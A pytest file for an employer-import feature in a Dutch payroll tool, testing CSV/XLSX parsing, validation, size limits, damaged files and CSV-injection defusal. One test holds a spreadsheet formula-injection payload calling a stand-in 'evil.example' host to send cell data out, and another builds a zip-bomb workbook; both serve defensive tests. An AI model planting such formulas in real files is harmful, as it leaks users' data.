"""Employers from CSV/XLSX: columns by header, a verdict per row, bad files with a clear message."""

from __future__ import annotations

import codecs
import csv
import io
import os
import struct
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook

from wizard.core.employer_table_import import (
    MSG_ALREADY_LISTED,
    MSG_BAD_WORKBOOK,
    MSG_BINARY,
    MSG_DUPLICATE_IN_FILE,
    MSG_EMPTY,
    MSG_ENCRYPTED_WORKBOOK,
    MSG_FORMULA_START,
    MSG_MISSING_COLUMNS,
    MSG_NOT_A_FILE,
    MSG_OLD_EXCEL,
    MSG_TOO_LARGE,
    MSG_TOO_MANY_ROWS,
    MSG_WORKBOOK_TOO_LARGE,
    Column,
    EmployerImportError,
    RowVerdict,
    add_importable,
    parse_employer_table,
    read_employer_file,
    template_csv,
)
from wizard.core.login_check_summary import LoginOutcome, LoginSummary, summaries_csv
from wizard.core.model import Employer

GOOD_ROWS = [
    ("Bakkerij Broodje B.V.", "bakkerij", "api@bakkerij.example.nl", "123456782L01"),
    ("Café Één V.O.F.", "https://cafe.nmbrs.nl", "api@cafe.example.nl", ""),
]


def _csv(rows: list[tuple[str, ...]], delimiter: str = ";", header: tuple[str, ...] = ()) -> str:
    header = header or ("naam debiteur", "Nmbrs-domein", "gebruikersnaam", "loonheffingennummer")
    lines = [delimiter.join(header), *(delimiter.join(row) for row in rows)]
    return "\r\n".join(lines) + "\r\n"


@pytest.mark.parametrize(
    ("encoding", "prefix"),
    [("utf-8", b""), ("utf-8", codecs.BOM_UTF8), ("cp1252", b""), ("utf-16", b"")],
)
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_every_excel_encoding_and_separator_reads_the_same(
    encoding: str, prefix: bytes, delimiter: str
) -> None:
    data = prefix + _csv(GOOD_ROWS, delimiter).encode(encoding)
    table = parse_employer_table(data)
    assert [row.employer.debtor_name for row in table.rows] == [
        "Bakkerij Broodje B.V.",
        "Café Één V.O.F.",
    ]
    assert table.rows[1].employer.domain == "cafe"  # the pasted address is cleaned
    assert table.rows[0].employer.loonheffingennummer == "123456782L01"
    assert all(row.verdict is RowVerdict.ADD for row in table.rows)
    assert table.delimiter == delimiter


def test_english_headers_in_any_order_and_unknown_columns_ignored() -> None:
    text = _csv(
        [("x", "api@a.example.nl", "a", "Debtor A")],
        ",",
        header=("Notes", "Username", "Domain", "Debtor name"),
    )
    table = parse_employer_table(text.encode())
    employer = table.rows[0].employer
    assert (employer.debtor_name, employer.username, employer.domain) == (
        "Debtor A",
        "api@a.example.nl",
        "a",
    )
    assert table.ignored_headers == ["Notes"]
    assert table.column_name(Column.USERNAME) == "Username"


def test_a_row_with_a_bad_value_is_refused_and_names_row_and_column() -> None:
    rows = [*GOOD_ROWS, ("Kapper", "kapper", "geen-email", "123456789L01")]
    table = parse_employer_table(_csv(rows).encode())
    bad = table.rows[2]
    assert bad.number == 4  # the header is row 1
    assert bad.verdict is RowVerdict.REFUSED
    columns = {issue.column for issue in bad.issues}
    assert columns == {Column.USERNAME, Column.LOONHEFFINGENNUMMER}
    assert bad.employer.username == "geen-email"  # kept as in the file, to show
    assert [row.number for row in table.importable] == [2, 3]


def test_duplicate_usernames_and_existing_employers_are_reported_not_overwritten() -> None:
    rows = [
        ("A", "a", "api@a.example.nl", ""),
        ("A again", "a", "API@a.example.nl", ""),
        ("B", "b", "api@b.example.nl", ""),
    ]
    existing = [Employer("B typed by hand", "api@b.example.nl", "tok", "bb")]
    table = parse_employer_table(_csv(rows).encode(), existing)
    verdicts = [row.verdict for row in table.rows]
    assert verdicts == [RowVerdict.ADD, RowVerdict.DUPLICATE_IN_FILE, RowVerdict.ALREADY_LISTED]
    assert table.rows[1].issues[-1].message.source == MSG_DUPLICATE_IN_FILE
    assert dict(table.rows[1].issues[-1].message.arguments) == {"row": "2"}
    assert table.rows[2].issues[-1].message.source == MSG_ALREADY_LISTED
    employers = list(existing)
    added = add_importable(employers, table)
    assert [e.debtor_name for e in added] == ["A"]
    assert employers[0].debtor_name == "B typed by hand"
    assert employers[0].domain == "bb"
    # Importing the same file again adds nothing.
    assert add_importable(employers, table) == []


def test_a_good_row_after_a_refused_one_with_its_username_is_imported() -> None:
    # Before: row 3 was "also on row 2; only the first is imported", yet row 2 was refused,
    # so neither came in.
    rows = [("A", "", "api@a.example.nl", ""), ("A", "a", "API@a.example.nl", "")]
    table = parse_employer_table(_csv(rows).encode())
    assert [row.verdict for row in table.rows] == [RowVerdict.REFUSED, RowVerdict.ADD]
    assert [row.employer.username for row in table.importable] == ["API@a.example.nl"]


def test_a_name_that_a_spreadsheet_would_run_is_kept_as_text_and_flagged() -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    rows = [
        (f'"{formula.replace(chr(34), chr(34) * 2)}"', "formule", "api@formule.example.nl", ""),
        ("+Plus Supermarkt", "plus", "api@plus.example.nl", ""),
        ("Bakkerij -Noord", "noord", "api@noord.example.nl", ""),
        ("@Home B.V.", "home", "=1+1@home.example.nl", ""),
    ]
    table = parse_employer_table(_csv(rows).encode())
    notes = [
        [
            (i.column, dict(i.message.arguments)["sign"])
            for i in row.issues
            if i.message.source == MSG_FORMULA_START
        ]
        for row in table.rows
    ]
    assert notes == [
        [(Column.DEBTOR_NAME, "=")],
        [(Column.DEBTOR_NAME, "+")],
        [],  # a '-' inside the name is no formula
        [(Column.DEBTOR_NAME, "@"), (Column.USERNAME, "=")],
    ]
    # A warning, not a refusal: the text is the name, kept exactly as the file has it.
    assert all(row.verdict is RowVerdict.ADD_WITH_WARNING for row in table.rows[:2])
    assert table.rows[2].verdict is RowVerdict.ADD
    employers: list[Employer] = []
    add_importable(employers, table)
    assert employers[0].debtor_name == formula
    # Every CSV export of those names defuses them; the registration file is JSON.
    summaries = [LoginSummary(e.username, e.debtor_name, LoginOutcome.ALL_GOOD) for e in employers]
    exported = io.StringIO(summaries_csv(summaries).decode("utf-8-sig"))
    cells = list(csv.reader(exported, delimiter=";"))
    names = [row[1] for row in cells[1:]]
    assert names[0].startswith("'") and names[1] == "'+Plus Supermarkt"
    assert names[2] == "Bakkerij -Noord"
    assert cells[4][0] == "'=1+1@home.example.nl"


def test_empty_rows_are_skipped_and_counted() -> None:
    text = "\r\n" + _csv([GOOD_ROWS[0], ("", "", "", ""), ("  ", "", "", ""), GOOD_ROWS[1]])
    table = parse_employer_table(text.encode())
    assert len(table.rows) == 2
    assert table.skipped_empty == 2
    assert [row.number for row in table.rows] == [3, 6]


def test_tokens_are_taken_and_flagged() -> None:
    header = ("naam debiteur", "Nmbrs-domein", "gebruikersnaam", "API-token")
    rows = [("A", "a", "api@a.example.nl", "0123456789abcdef0123456789"), ("B", "b", "b@x.nl", "")]
    table = parse_employer_table(_csv(rows, header=header).encode())
    assert table.has_tokens
    assert table.rows[0].employer.token == "0123456789abcdef0123456789"
    assert table.rows[1].employer.token == ""
    assert "0123456789abcdef" not in repr(table)


def test_missing_columns_are_named() -> None:
    with pytest.raises(EmployerImportError) as caught:
        parse_employer_table(b"naam debiteur;domein\r\nA;a\r\n")
    assert caught.value.message.source == MSG_MISSING_COLUMNS
    assert dict(caught.value.message.arguments) == {"columns": "gebruikersnaam"}


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", MSG_EMPTY),
        (b"\r\n ;;\r\n", MSG_EMPTY),
        (b"naam debiteur;Nmbrs-domein;gebruikersnaam\r\n;;\r\n", MSG_EMPTY),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", MSG_BINARY),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), MSG_OLD_EXCEL),
        (b"PK\x03\x04 not really a zip", MSG_BAD_WORKBOOK),
    ],
)
def test_bad_files_get_a_clear_message(data: bytes, message: str) -> None:
    with pytest.raises(EmployerImportError) as caught:
        parse_employer_table(data)
    assert caught.value.message.source == message


def test_an_xlsx_workbook_is_read_with_numbers_as_typed() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Gebruikersnaam", "Naam debiteur", "Domein", "Loonheffingennummer"])
    sheet.append(["api@a.example.nl", 12345, "a", "123456782L01"])
    sheet.append([None, None, None, None])
    sheet.append(["api@b.example.nl", "B", "b", None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = parse_employer_table(buffer.getvalue())
    assert table.source == "xlsx"
    assert [row.employer.debtor_name for row in table.rows] == ["12345", "B"]
    assert table.skipped_empty == 1
    assert all(row.importable for row in table.rows)


def _workbook(*sheets: list[list[object]]) -> bytes:
    workbook = Workbook()
    workbook.remove(workbook.active)
    for number, rows in enumerate(sheets, start=1):
        sheet = workbook.create_sheet(f"Blad{number}")
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _with_part(workbook: bytes, name: str, content: bytes) -> bytes:
    """The workbook with one of its parts replaced (damaged, or a bomb)."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = content if member.filename == name else source.read(member.filename)
            target.writestr(member.filename, data)
    return buffer.getvalue()


HEADER = ["naam debiteur", "Nmbrs-domein", "gebruikersnaam"]


@pytest.mark.parametrize(
    "part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"]
)
def test_a_workbook_with_a_damaged_part_gets_a_message_not_a_crash(part: str) -> None:
    workbook = _workbook([HEADER, ["A", "a", "api@a.example.nl"]])
    original = zipfile.ZipFile(io.BytesIO(workbook)).read(part)
    for damaged in (original[: len(original) // 2], b"<not xml"):
        with pytest.raises(EmployerImportError) as caught:
            parse_employer_table(_with_part(workbook, part, damaged))
        assert caught.value.message.source == MSG_BAD_WORKBOOK


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked() -> None:
    workbook = _workbook([HEADER, ["A", "a", "api@a.example.nl"]])
    sheet = zipfile.ZipFile(io.BytesIO(workbook)).read("xl/worksheets/sheet1.xml")
    huge = sheet.replace(b"<t>A</t>", b"<t>" + b"A" * (60 * 1024 * 1024) + b"</t>")
    bomb = _with_part(workbook, "xl/worksheets/sheet1.xml", huge)
    assert len(bomb) < 1024 * 1024  # small on disk, well under the 5 MB file limit
    with pytest.raises(EmployerImportError) as caught:
        parse_employer_table(bomb)
    assert caught.value.message.source == MSG_WORKBOOK_TOO_LARGE


def _compound_file(*stream_names: str) -> bytes:
    """A minimal OLE compound file: its header and a directory sector naming `stream_names`."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    entries = b""
    for name in ("Root Entry", *stream_names):
        encoded = (name + "\0").encode("utf-16-le")
        entries += encoded.ljust(64, b"\0") + struct.pack("<H", len(encoded)) + bytes(62)
    return header + entries.ljust(512, b"\0")


def test_a_password_protected_workbook_is_named_as_such_not_as_an_old_xls() -> None:
    with pytest.raises(EmployerImportError) as caught:
        parse_employer_table(_compound_file("EncryptionInfo", "EncryptedPackage"))
    assert caught.value.message.source == MSG_ENCRYPTED_WORKBOOK
    with pytest.raises(EmployerImportError) as caught:
        parse_employer_table(_compound_file("Workbook"))  # a real old .xls
    assert caught.value.message.source == MSG_OLD_EXCEL


def test_the_header_may_follow_a_title_row_in_csv_and_in_excel() -> None:
    text = (
        "Werkgevers 2026\r\n\r\n"
        "naam debiteur;Nmbrs-domein;gebruikersnaam\r\nA;a;api@a.example.nl\r\n"
    )
    table = parse_employer_table(text.encode("cp1252"))
    assert table.delimiter == ";"
    # A comma in the title does not make the file comma-separated.
    table = parse_employer_table(text.replace("2026", "versie 2, 2026").encode())
    assert table.delimiter == ";" and len(table.rows) == 1
    # Lines that end in a lone CR (old Mac Excel) are lines too.
    table = parse_employer_table(text.replace("\r\n", "\r").encode())
    assert table.delimiter == ";" and len(table.rows) == 1
    assert [(row.number, row.employer.username) for row in table.rows] == [(4, "api@a.example.nl")]
    workbook = _workbook([["Overzicht werkgevers"], [], HEADER, ["A", "a", "api@a.example.nl"]])
    table = parse_employer_table(workbook)
    assert [(row.number, row.employer.username) for row in table.rows] == [(4, "api@a.example.nl")]


def test_below_a_title_row_the_missing_column_of_the_header_is_named() -> None:
    text = "Werkgevers 2026\r\nnaam debiteur;Nmbrs-domein;e-mail\r\nA;a;api@a.example.nl\r\n"
    with pytest.raises(EmployerImportError) as caught:
        parse_employer_table(text.encode())
    assert dict(caught.value.message.arguments) == {"columns": "gebruikersnaam"}


def test_the_common_spelling_loonheffingsnummer_is_recognised() -> None:
    text = (
        "Debiteur;Domein;Gebruikersnaam;Loonheffingsnummer\r\nA;a;api@a.example.nl;123456782L01\r\n"
    )
    table = parse_employer_table(text.encode())
    assert table.rows[0].employer.loonheffingennummer == "123456782L01"
    assert table.ignored_headers == []


def test_the_employers_may_be_on_a_later_sheet() -> None:
    workbook = _workbook([["Toelichting", "zie blad 2"]], [HEADER, ["A", "a", "api@a.example.nl"]])
    table = parse_employer_table(workbook)
    assert [row.employer.debtor_name for row in table.rows] == ["A"]


def test_5000_rows_work_and_too_many_rows_are_refused() -> None:
    rows = [(f"Debiteur {i}", f"d{i}", f"api{i}@example.nl", "") for i in range(5000)]
    table = parse_employer_table(_csv(rows).encode())
    assert len(table.importable) == 5000
    too_many = [(f"D {i}", "d", f"a{i}@example.nl", "") for i in range(10_001)]
    with pytest.raises(EmployerImportError) as caught:
        parse_employer_table(_csv(too_many).encode())
    assert caught.value.message.source == MSG_TOO_MANY_ROWS


def test_rows_formatted_but_empty_do_not_count_as_too_many() -> None:
    # Before: 50 employers in a sheet with a fill down to row 30,000 (and its CSV, with a
    # line of ';;;' for each such row) were refused as "more than 10000 rows".
    from openpyxl.styles import PatternFill

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER)
    for i in range(50):
        sheet.append([f"Debiteur {i}", f"d{i}", f"api{i}@example.nl"])
    for row in range(2, 30_001):
        sheet.cell(row=row, column=4).fill = PatternFill("solid", fgColor="FFFF00")
    buffer = io.BytesIO()
    workbook.save(buffer)
    employers = [(f"Debiteur {i}", f"d{i}", f"api{i}@example.nl", "") for i in range(50)]
    for data in (buffer.getvalue(), _csv(employers).encode() + b";;;\r\n" * 30_000):
        table = parse_employer_table(data)
        assert len(table.importable) == 50


def test_a_10_mb_file_is_refused_before_parsing(tmp_path: Path) -> None:
    path = tmp_path / "groot.csv"
    path.write_bytes(b"naam debiteur;Nmbrs-domein;gebruikersnaam\r\n" + b"x" * (10 * 1024 * 1024))
    with pytest.raises(EmployerImportError) as caught:
        read_employer_file(path)
    assert caught.value.message.source == MSG_TOO_LARGE


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs exist on POSIX only")
def test_a_fifo_or_folder_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for path in (fifo, tmp_path):
        with pytest.raises(EmployerImportError) as caught:
            read_employer_file(path)
        assert caught.value.message.source == MSG_NOT_A_FILE


def test_the_template_is_recognised_and_has_no_token_column() -> None:
    data = template_csv()
    assert data.startswith(codecs.BOM_UTF8)
    assert b"token" not in data.lower()
    with pytest.raises(EmployerImportError) as caught:
        parse_employer_table(data)  # only a header: nothing to import, but the header is fine
    assert caught.value.message.source == MSG_EMPTY
    table = parse_employer_table(data + b"A;a;api@a.example.nl;\r\n")
    assert len(table.importable) == 1


def test_a_formula_cell_gives_the_value_excel_saved_never_the_formula() -> None:
    workbook = _workbook([HEADER, ["PLACEHOLDER", "a", "api@a.example.nl"]])
    sheet = zipfile.ZipFile(io.BytesIO(workbook)).read("xl/worksheets/sheet1.xml")
    formula = b'<c r="A2" t="str"><f>CONCAT("Bakkerij ","B.V.")</f><v>Bakkerij B.V.</v></c>'
    placeholder = b'<c r="A2" t="inlineStr"><is><t>PLACEHOLDER</t></is></c>'
    assert placeholder in sheet
    table = parse_employer_table(
        _with_part(workbook, "xl/worksheets/sheet1.xml", sheet.replace(placeholder, formula))
    )
    assert table.rows[0].employer.debtor_name == "Bakkerij B.V."
    assert table.rows[0].verdict is RowVerdict.ADD
